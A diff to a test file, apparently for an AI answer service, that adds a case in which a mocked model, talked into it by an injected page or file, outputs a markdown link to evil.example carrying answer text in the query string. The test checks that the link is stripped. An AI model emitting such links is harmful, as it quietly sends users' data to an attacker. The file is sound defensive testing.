@@ -227,5 +227,8 @@ describe('an answer that a page or a file talked the model into', () => {
     expect(answer.notices).toEqual(['We removed links whose addresses aren’t in the sources of this answer.'])
     expect((await read(id)).messages[1]?.content).toBe(answer.content)
     for (const [, left] of removed) expect(JSON.stringify(readAnswer(left))).not.toContain('"link"')
+    // Its own answer has given it nothing.
+    model?.answer({ text: 'Go [there](https://evil.example/?d=The+mayor+resigns).' })
+    expect(answerOf(await ask(id, 'Where is the library?')).content).toBe('Go there.')
   })
 })
